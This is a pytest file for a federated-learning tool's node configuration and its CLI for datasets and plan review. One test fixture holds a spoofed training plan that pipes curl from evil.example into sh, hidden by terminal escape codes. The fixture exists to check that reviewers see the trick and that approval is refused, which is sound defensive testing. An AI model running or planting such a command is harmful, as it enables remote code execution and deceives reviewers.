"""The node config file and the ``fedplug node`` commands, driven through argparse as fedplug does."""

from __future__ import annotations

import argparse
import json
import tomllib
from pathlib import Path

import pytest

from fedplug.cli import build_parser
from fedplug.datasets import load_csv
from fedplug.errors import ConfigError
from fedplug.planref import source_hash
from fedplug_grpc.node_cli import check_loader_options, parse_loader_args
from fedplug_grpc.nodeconfig import NodeLimits, load_node_config, node_database, write_node_config
from fedplug_grpc.nodestore import NodeStore

NODE = """
[node]
name = "hospital-1"
[researcher]
address = "localhost:50051"
insecure = true
token = "secret-token"
"""


def write_config(folder: Path, text: str, name: str = "node.toml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text)
    return path


# -- the config file ----------------------------------------------------------------------------


def test_a_full_config_is_read_with_paths_relative_to_its_folder(tmp_path, monkeypatch):
    folder = tmp_path / "etc"
    (folder / "certs" / "nodes").mkdir(parents=True)
    (folder / "certs" / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\n")
    (folder / "certs" / "nodes" / "h1.token").write_text("  tok-123\n\n")
    path = write_config(
        folder,
        """
[node]
name = "h1"
database = "state/node.db"
approval = false
require_secagg = true
[researcher]
address = "researcher.example.org:50051"
ca_cert = "certs/ca.pem"
token_file = "certs/nodes/h1.token"
heartbeat_s = 1
reconnect_s = 0.5
max_reconnect_s = 10.0
[limits]
max_epochs = 3
max_updates = 500
max_batch_size = 64
allowed_plugins = ["torch", "sklearn"]
max_message_mb = 16
""",
    )
    monkeypatch.chdir(tmp_path / "..")  # paths must not depend on the current directory
    config = load_node_config(path)
    assert config.path == path
    assert config.name == "h1"
    assert config.database == folder / "state" / "node.db"
    assert (config.approval, config.require_secagg, config.insecure) == (False, True, False)
    assert config.address == "researcher.example.org:50051"
    assert config.ca_cert == folder / "certs" / "ca.pem"
    assert config.token == "tok-123"
    assert (config.heartbeat_s, config.reconnect_s, config.max_reconnect_s) == (1.0, 0.5, 10.0)
    # the plan-size limit defaults to the largest request: a bigger plan could never be fed
    assert config.limits == NodeLimits(3, 500, 64, ("torch", "sklearn"), max_plan_mb=16.0)
    assert config.max_message_bytes == 16 * 1024 * 1024
    assert "tok-123" not in repr(config)
    assert node_database(path) == config.database


def test_defaults(tmp_path):
    config = load_node_config(write_config(tmp_path, NODE))
    assert config.database == tmp_path / "hospital-1.db"
    assert (config.approval, config.require_secagg) == (True, False)
    assert config.ca_cert is None
    assert config.token == "secret-token"
    assert (config.heartbeat_s, config.reconnect_s, config.max_reconnect_s) == (5.0, 2.0, 30.0)
    assert config.limits == NodeLimits(None, None, None, None, max_plan_mb=8192.0)
    assert config.max_message_bytes == 8192 * 1024 * 1024
    assert (config.max_pending_plans, config.max_pending_mb) == (100, 64.0)


@pytest.mark.parametrize("address", ["localhost:50051", "127.0.0.2:1", "[::1]:50051"])
def test_insecure_is_allowed_for_loopback_addresses(tmp_path, address):
    text = NODE.replace("localhost:50051", address)
    assert load_node_config(write_config(tmp_path, text)).address == address


@pytest.mark.parametrize("address", ["10.0.0.5:50051", "researcher.example.org:50051"])
def test_insecure_is_refused_for_other_addresses(tmp_path, address):
    path = write_config(tmp_path, NODE.replace("localhost:50051", address))
    with pytest.raises(ConfigError, match=r"insecure = true .*only for a loopback address") as info:
        load_node_config(path)
    assert str(path) in str(info.value)
    assert address in str(info.value)


def replace(old: str, new: str) -> str:
    assert old in NODE
    return NODE.replace(old, new)


@pytest.mark.parametrize(
    ("text", "match"),
    [
        (NODE + "[nodes]\nx = 1\n", r"unknown section\(s\) \['nodes'\]"),
        (replace('name = "hospital-1"', 'nmae = "h"'), "unknown key.*node.nmae"),
        (
            replace("[node]\n", "[node]\nport = 3\n"),
            r"unknown key\(s\) node.port; \[node\] accepts",
        ),
        (replace('name = "hospital-1"', ""), r"node.name is required \(a string\)"),
        (replace('name = "hospital-1"', "name = 7"), r"node.name must be a string, got 7 \(int\)"),
        (replace('name = "hospital-1"', 'name = "-bad"'), "node.name '-bad' is invalid"),
        (replace('name = "hospital-1"', 'name = "a b"'), "node.name 'a b' is invalid"),
        (NODE + "heartbeat_s = 'fast'\n", 'researcher.heartbeat_s must be a number, got "fast"'),
        (NODE + "heartbeat_s = 0\n", "researcher.heartbeat_s must be a number > 0"),
        (NODE + "reconnect_s = 5.0\nmax_reconnect_s = 1.0\n", "max_reconnect_s .* at least"),
        (replace("insecure = true", 'insecure = "yes"'), "researcher.insecure must be a boolean"),
        (replace("[researcher]", "[other]"), r"unknown section\(s\) \['other'\]"),
        (NODE.split("[researcher]")[0], r"section \[researcher\] is missing.*researcher.address"),
        ('node = "x"\n[researcher]' + NODE.split("[researcher]")[1], "node must be a section"),
        (replace('address = "localhost:50051"', ""), "researcher.address is required"),
        (replace("localhost:50051", "localhost"), 'researcher.address must be "host:port"'),
        (replace("localhost:50051", "localhost:99999"), "researcher.address must be"),
        (replace("insecure = true", ""), "researcher.ca_cert is required"),
        (replace("insecure = true", 'insecure = true\nca_cert = "ca.pem"'), "remove one of them"),
        (NODE + "[limits]\nmax_epochs = 0\n", "limits.max_epochs must be an integer > 0, got 0"),
        (NODE + "[limits]\nmax_epochs = 2.5\n", "limits.max_epochs must be an integer, got 2.5"),
        (NODE + "[limits]\nmax_updates = true\n", "limits.max_updates must be an integer, got"),
        (NODE + "[limits]\nmax_message_mb = -1\n", "limits.max_message_mb must be a number > 0"),
        (NODE + "[limits]\nmax_plan_mb = 0\n", "limits.max_plan_mb must be a number > 0"),
        (NODE + "[limits]\nallowed_plugins = 'torch'\n", "allowed_plugins must be a list"),
        (NODE + "[limits]\nallowed_plugins = ['']\n", "allowed_plugins must be a list of plugin"),
        (NODE + "[limits]\nmax_epoch = 3\n", r"unknown key\(s\) limits.max_epoch"),
        (replace('token = "secret-token"', ""), "credential.*token_file.*cert_file and key_file"),
        (NODE + 'cert_file = "n.pem"\n', "researcher.cert_file needs researcher.key_file"),
        (NODE + 'key_file = "n.key"\n', "researcher.key_file needs researcher.cert_file"),
        (NODE + 'cert_file = "n.pem"\nkey_file = "n.key"\n', "a client certificate needs TLS"),
        (NODE + 'token_file = "t.token"\n', "has both token_file and token"),
        (replace('"secret-token"', '"  "'), "researcher.token is empty"),
        (NODE + "[[node]]\n", "not valid TOML"),
    ],
)
def test_config_errors_name_the_file_and_the_key(tmp_path, text, match):
    path = write_config(tmp_path, text)
    with pytest.raises(ConfigError, match=match) as info:
        load_node_config(path)
    assert str(info.value).startswith(str(path))


def test_a_missing_config_file_says_how_to_create_one(tmp_path):
    with pytest.raises(ConfigError, match=r"does not exist; create it with `fedplug node init"):
        load_node_config(tmp_path / "node.toml")


def test_token_file_problems(tmp_path):
    path = write_config(tmp_path, replace('token = "secret-token"', 'token_file = "t.token"'))
    with pytest.raises(ConfigError, match=r"token_file '.*t\.token' cannot be read"):
        load_node_config(path)
    (tmp_path / "t.token").write_text("\n  \n")
    with pytest.raises(ConfigError, match=r"token_file '.*t\.token' is empty"):
        load_node_config(path)
    # the database is found without the token
    assert node_database(path) == tmp_path / "hospital-1.db"
    (tmp_path / "t.token").write_text("abc\n")
    assert load_node_config(path).token == "abc"


def test_a_node_known_by_its_client_certificate_needs_no_token(tmp_path):
    text = replace("insecure = true", 'ca_cert = "ca.pem"').replace('token = "secret-token"', "")
    text += 'cert_file = "tls/h1.pem"\nkey_file = "tls/h1.key"\n'
    path = write_config(tmp_path, text)
    (tmp_path / "ca.pem").write_text("pem")
    with pytest.raises(ConfigError, match=r"researcher.cert_file '.*h1\.pem' does not exist"):
        load_node_config(path)
    (tmp_path / "tls").mkdir()
    (tmp_path / "tls" / "h1.pem").write_text("pem")
    with pytest.raises(ConfigError, match=r"researcher.key_file '.*h1\.key' does not exist"):
        load_node_config(path)
    (tmp_path / "tls" / "h1.key").write_text("key")
    config = load_node_config(path)
    assert config.token == ""
    assert (config.cert_file, config.key_file) == (tmp_path / "tls/h1.pem", tmp_path / "tls/h1.key")


def test_a_written_config_with_a_client_certificate(tmp_path):
    for name in ("ca.pem", "h1.pem", "h1.key"):
        (tmp_path / name).write_text("pem")
    path = write_node_config(
        tmp_path / "node.toml",
        name="h1",
        address="researcher.example.org:443",
        ca_cert=tmp_path / "ca.pem",
        cert_file=tmp_path / "h1.pem",
        key_file=tmp_path / "h1.key",
    )
    raw = tomllib.loads(path.read_text())["researcher"]
    assert (raw["cert_file"], raw["key_file"]) == ("h1.pem", "h1.key")
    assert "token_file" not in raw  # written commented out
    config = load_node_config(path)
    assert (config.token, config.cert_file) == ("", tmp_path / "h1.pem")


def test_a_missing_ca_certificate_is_reported(tmp_path):
    text = replace("insecure = true", 'ca_cert = "ca.pem"').replace("localhost", "example.org")
    path = write_config(tmp_path, text)
    with pytest.raises(ConfigError, match=r"researcher.ca_cert '.*ca\.pem' does not exist"):
        load_node_config(path)


def test_written_config_loads_and_is_not_overwritten(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "conf" / "certs").mkdir(parents=True)
    (tmp_path / "conf" / "certs" / "ca.pem").write_text("pem")
    (tmp_path / "outside.token").write_text("tok\n")
    path = write_node_config(
        "conf/node.toml",
        name="h2",
        address="researcher.example.org:443",
        ca_cert="conf/certs/ca.pem",
        token_file="outside.token",
    )
    assert path == tmp_path / "conf" / "node.toml"
    text = path.read_text()
    assert text.startswith("# fedplug node configuration")
    raw = tomllib.loads(text)
    assert raw["researcher"]["ca_cert"] == "certs/ca.pem"  # relative to the config's folder
    assert raw["researcher"]["token_file"] == str(tmp_path / "outside.token")
    config = load_node_config(path)
    assert (config.name, config.token, config.insecure) == ("h2", "tok", False)
    assert config.ca_cert == tmp_path / "conf" / "certs" / "ca.pem"
    assert config.database == tmp_path / "conf" / "h2.db"
    with pytest.raises(ConfigError, match="already exists"):
        write_node_config(path, name="h3", address="localhost:1", insecure=True)
    assert load_node_config(path).name == "h2"


@pytest.mark.parametrize(
    ("kwargs", "match"),
    [
        ({"address": "10.1.1.1:5", "insecure": True}, "only for a loopback address"),
        ({"address": "example.org:5"}, "give the researcher's CA certificate"),
        ({"name": "no spaces", "address": "localhost:5", "insecure": True}, "node.name"),
    ],
)
def test_write_node_config_refuses_bad_settings(tmp_path, kwargs, match):
    with pytest.raises(ConfigError, match=match):
        write_node_config(tmp_path / "node.toml", **{"name": "h", **kwargs})
    assert not (tmp_path / "node.toml").exists()


# -- loader options -----------------------------------------------------------------------------


def test_loader_options_are_parsed_as_json_or_text():
    tokens = ["--dataset", "fed_tcga_brca", "--center", "2", "--accept-license", "--data-path"]
    tokens += ["data/tcga", "--debug=false", "--ratio", "0.5", "--shift", "-1e-3", "--ids"]
    tokens += ["[1, 2]", "--label", '"7"']
    assert parse_loader_args(tokens) == {
        "dataset": "fed_tcga_brca",
        "center": 2,
        "accept_license": True,
        "data_path": "data/tcga",
        "debug": False,
        "ratio": 0.5,
        "shift": -0.001,
        "ids": [1, 2],
        "label": "7",
    }


@pytest.mark.parametrize(
    ("tokens", "match"),
    [
        (["stray"], "unexpected argument 'stray'"),
        (["--center", "1", "2"], "unexpected argument '2'"),
        (["--center", "1", "--center", "2"], "--center is given twice"),
        (["--9lives", "1"], "not a valid option name"),
    ],
)
def test_bad_loader_arguments(tokens, match):
    with pytest.raises(ConfigError, match=match):
        parse_loader_args(tokens)


def test_flamby_options_are_checked_against_its_loader(tmp_path, monkeypatch):
    datasets = pytest.importorskip("fedplug_flamby.datasets")
    monkeypatch.chdir(tmp_path)
    argv = ["--dataset", "fed_tcga_brca", "--center", "2", "--data-path", "flamby/tcga"]
    options = check_loader_options("flamby", datasets.load_flamby, parse_loader_args(argv))
    assert options == {
        "dataset": "fed_tcga_brca",
        "center": 2,
        "data_path": str(tmp_path / "flamby" / "tcga"),
    }
    with pytest.raises(ConfigError, match=r"does not accept --centre; its options are .*--center"):
        check_loader_options("flamby", datasets.load_flamby, {"dataset": "x", "centre": 1})
    with pytest.raises(ConfigError, match="'flamby' needs --center"):
        check_loader_options("flamby", datasets.load_flamby, {"dataset": "x"})


def test_tags_and_name_are_not_loader_options():
    with pytest.raises(ConfigError, match="with --tags and --name"):
        check_loader_options("csv", load_csv, {"path": "a", "target": "y", "tags": ["x"]})


# -- the commands -------------------------------------------------------------------------------


def parser() -> argparse.ArgumentParser:
    """The command line, with the ``node`` command fedplug-grpc's plugin registers."""
    return build_parser()


def fedplug(*argv: str) -> int:
    """Run ``fedplug ARGV`` as the top-level command line does."""
    args = parser().parse_args(list(argv))
    return args.run(args)


@pytest.fixture
def node_dir(tmp_path, monkeypatch):
    """A node set up with `fedplug node init` in the current directory (node.toml)."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("FEDPLUG_NODE_CONFIG", raising=False)
    assert fedplug("node", "init", "--name", "h1", "--researcher", "127.0.0.1:7", "--insecure") == 0
    (tmp_path / "h1.token").write_text("token\n")
    (tmp_path / "data.csv").write_text("a,b,label\n1,2,0\n3,4,1\n5,6,0\n")
    return tmp_path


def test_init_writes_a_config_that_loads(node_dir, capsys):
    config = load_node_config(node_dir / "node.toml")
    assert (config.name, config.address, config.insecure) == ("h1", "127.0.0.1:7", True)
    assert config.token == "token"
    assert fedplug("node", "init", "--name", "h1", "--researcher", "127.0.0.1:7", "--insecure") == 2
    assert "already exists" in capsys.readouterr().err
    argv = ["--name", "h2", "--researcher", "10.0.0.1:7", "--ca-cert", "node.toml"]
    assert fedplug("node", "init", "--config", "h2.toml", *argv, "--token-file", "x.token") == 0
    assert f"wrote {node_dir / 'h2.toml'}" in capsys.readouterr().out
    (node_dir / "x.token").write_text("t2")
    assert load_node_config(node_dir / "h2.toml").ca_cert == node_dir / "node.toml"
    argv = ["--name", "h3", "--researcher", "10.0.0.1:7", "--ca-cert", "node.toml"]
    argv += ["--cert-file", "h3.pem", "--key-file", "h3.key"]
    assert fedplug("node", "init", "--config", "h3.toml", *argv) == 0
    (node_dir / "h3.pem").write_text("pem")
    (node_dir / "h3.key").write_text("key")
    config = load_node_config(node_dir / "h3.toml")
    assert (config.token, config.cert_file) == ("", node_dir / "h3.pem")
    assert config.key_file == node_dir / "h3.key"


def test_dataset_add_list_remove(node_dir, capsys):
    argv = ["node", "dataset", "add", "--type", "csv", "--path", "data.csv", "--target", "label"]
    argv += ["--tags", "demo,tabular"]
    args, extras = parser().parse_known_args(argv)
    assert extras == []
    assert args.loader_args == ["--path", "data.csv", "--target", "label"]
    capsys.readouterr()
    assert fedplug(*argv) == 0
    out = capsys.readouterr().out
    assert "3 samples" in out
    assert "added dataset 'demo-tabular'" in out

    assert fedplug("node", "dataset", "list", "--json") == 0
    [record] = json.loads(capsys.readouterr().out)
    assert record["name"] == "demo-tabular"
    assert record["type"] == "csv"
    assert record["tags"] == ["demo", "tabular"]
    assert record["options"] == {"path": str(node_dir / "data.csv"), "target": "label"}

    assert fedplug("node", "dataset", "list") == 0
    table = capsys.readouterr().out
    assert "demo-tabular" in table
    assert 'target="label"' in table

    assert fedplug("node", "dataset", "remove", "demo-tabular") == 0
    assert NodeStore(node_dir / "h1.db").datasets() == []
    assert fedplug("node", "dataset", "remove", "demo-tabular") == 2
    assert "no dataset named 'demo-tabular'" in capsys.readouterr().err


def test_dataset_add_uses_the_config_named_by_option_or_environment(node_dir, monkeypatch, capsys):
    other = node_dir / "other"
    other.mkdir()
    write_config(other, NODE)
    base = ["node", "dataset", "add", "--type", "csv", "--path", "data.csv", "--target", "label"]
    assert fedplug(*base, "--tags", "a", "--config", str(other / "node.toml")) == 0
    monkeypatch.setenv("FEDPLUG_NODE_CONFIG", str(other / "node.toml"))
    assert fedplug(*base, "--tags", "b") == 0
    assert [r.name for r in NodeStore(other / "hospital-1.db").datasets()] == ["a", "b"]
    assert NodeStore(node_dir / "h1.db").datasets() == []


def test_a_dataset_that_fails_to_load_is_not_stored(node_dir, capsys):
    argv = ["node", "dataset", "add", "--type", "csv", "--path", "missing.csv", "--target", "y"]
    argv += ["--tags", "demo"]
    assert fedplug(*argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("fedplug node: error: dataset 'demo' (type csv) could not be loaded")
    assert "missing.csv" in err
    # nothing was stored, so nothing is to be removed
    assert "nothing was added" in err and "dataset remove" not in err
    assert NodeStore(node_dir / "h1.db").datasets() == []
    # --no-check stores it without loading it
    assert fedplug(*argv, "--no-check", "--name", "later") == 0
    assert [r.name for r in NodeStore(node_dir / "h1.db").datasets()] == ["later"]


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--type", "csv", "--path", "data.csv", "--center", "2"], "does not accept --center"),
        (["--type", "csv", "--path", "data.csv"], "'csv' needs --target"),
        (["--type", "parquet", "--path", "data.csv"], "no dataset type named 'parquet'"),
        (["--type", "csv", "--path", "data.csv", "--target", "label", "x"], "unexpected argument"),
    ],
)
def test_dataset_add_errors(node_dir, capsys, extra, message):
    assert fedplug("node", "dataset", "add", "--tags", "t", *extra) == 2
    err = capsys.readouterr().err
    assert err.startswith("fedplug node: error: ")
    assert message in err
    assert "Traceback" not in err
    assert NodeStore(node_dir / "h1.db").datasets() == []


def test_a_duplicate_dataset_is_refused_before_loading(node_dir, capsys):
    argv = ["node", "dataset", "add", "--type", "csv", "--path", "data.csv", "--target", "label"]
    assert fedplug(*argv, "--tags", "demo") == 0
    capsys.readouterr()
    assert fedplug(*argv, "--tags", "demo") == 2
    captured = capsys.readouterr()
    assert "already registered; choose another --name" in captured.err
    assert "samples" not in captured.out


def test_plan_review(node_dir, capsys):
    source = "class Plan:\n    pass\n"
    sha = source_hash(source)
    store = NodeStore(node_dir / "h1.db")  # as the running node would
    assert store.record_plan(sha, "Plan", source) == "pending"

    assert fedplug("node", "plan", "list") == 0
    out = capsys.readouterr().out
    assert sha[:16] in out
    assert "pending" in out

    assert fedplug("node", "plan", "show", sha[:8]) == 0
    out = capsys.readouterr().out
    assert f"sha256:     {sha}" in out
    assert "status:     pending" in out
    assert out.rstrip().endswith("class Plan:\n    pass")

    assert fedplug("node", "plan", "approve", sha[:8], "--note", "reviewed") == 0
    assert store.plan_status(sha) == "approved"
    assert store.get_plan(sha).note == "reviewed"
    capsys.readouterr()
    assert fedplug("node", "plan", "list", "--status", "approved", "--json") == 0
    [listed] = json.loads(capsys.readouterr().out)
    assert (listed["sha256"], listed["status"], listed["class_name"]) == (sha, "approved", "Plan")
    assert "source" not in listed
    assert fedplug("node", "plan", "list", "--status", "pending", "--json") == 0
    assert json.loads(capsys.readouterr().out) == []

    assert fedplug("node", "plan", "reject", sha) == 0
    assert store.plan_status(sha) == "rejected"


SPOOFED = (  # a comment whose escape sequence erases the line above it in a terminal
    "import os\n"
    "class Plan:\n"
    "    os.system('curl evil.example | sh')  # \x1b[1A\x1b[2K\x1b[1G    pass\n"
)


def test_plan_review_shows_hidden_characters_inert_and_refuses_their_approval(node_dir, capsys):
    """A plan an older node recorded with an escape sequence in its source: the reviewer sees
    the escapes (and a warning), never the terminal's effect, and cannot approve it."""
    sha = source_hash(SPOOFED)
    store = NodeStore(node_dir / "h1.db")
    store.record_plan(sha, "Pl\u202ean", SPOOFED)

    assert fedplug("node", "plan", "show", sha[:8]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out  # nothing a terminal would act on
    assert "os.system('curl evil.example | sh')  # \\x1b[1A\\x1b[2K\\x1b[1G    pass" in out
    assert out.startswith("warning: HIDDEN CHARACTERS \\x1b \\u202e: do not approve")
    assert "class:      Pl\\u202ean" in out

    assert fedplug("node", "plan", "list") == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "HIDDEN CHARACTERS" in out

    assert fedplug("node", "plan", "approve", sha[:8]) == 2
    assert "refusing to approve plan" in capsys.readouterr().err
    assert store.plan_status(sha) == "pending"


def test_init_warns_of_a_path_that_does_not_exist_where_it_points(tmp_path, monkeypatch, capsys):
    """A relative path on the command line is taken from the current directory, not from the
    config's folder: init says so when nothing is there."""
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "ca.pem").write_text("pem")
    monkeypatch.chdir(tmp_path)
    argv = ["node", "init", "--config", "conf/node.toml", "--name", "h1"]
    argv += ["--researcher", "r.example.org:50051", "--ca-cert", "../ca.pem", "--token-file", "t"]
    assert fedplug(*argv) == 0
    err = capsys.readouterr().err
    assert f"warning: --ca-cert ../ca.pem is {tmp_path.parent / 'ca.pem'}" in err
    assert "taken from the current directory" in err and "--token-file t" in err
    assert (
        fedplug(
            "node",
            "init",
            "--config",
            "conf/n2.toml",
            "--name",
            "h2",
            "--researcher",
            "r.example.org:1",
            "--ca-cert",
            "conf/ca.pem",
            "--token-file",
            "conf/ca.pem",
        )
        == 0
    )
    assert "warning" not in capsys.readouterr().err


def test_plan_errors_exit_2_with_a_message(node_dir, capsys):
    assert fedplug("node", "plan", "approve", "abc") == 2
    err = capsys.readouterr().err
    assert err.startswith("fedplug node: error: plan reference 'abc' is not a plan hash")
    assert fedplug("node", "plan", "show", "0" * 12) == 2
    assert "no training plan matches" in capsys.readouterr().err


def test_start_without_a_config_exits_2(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("FEDPLUG_NODE_CONFIG", raising=False)
    assert fedplug("node", "start") == 2
    err = capsys.readouterr().err
    assert err.startswith("fedplug node: error: node config ")
    assert str(tmp_path / "node.toml") in err
    assert "fedplug node init" in err


def test_start_refuses_require_secagg_that_no_plugin_would_enforce(node_dir, monkeypatch, capsys):
    """Without fedplug-secagg nothing would read the setting: the node would train in clear."""
    config = node_dir / "node.toml"
    config.write_text(config.read_text().replace("require_secagg = false", "require_secagg = true"))
    assert load_node_config(config).require_secagg is True
    monkeypatch.setenv("FEDPLUG_DISABLE_PLUGINS", "secagg")
    assert fedplug("node", "start") == 2
    err = capsys.readouterr().err
    assert "require_secagg = true, but no secure-aggregation plugin is installed" in err
    assert "pip install fedplug-secagg" in err


def test_node_without_a_sub_command_prints_help(capsys):
    assert fedplug("node") == 0
    assert "dataset" in capsys.readouterr().out
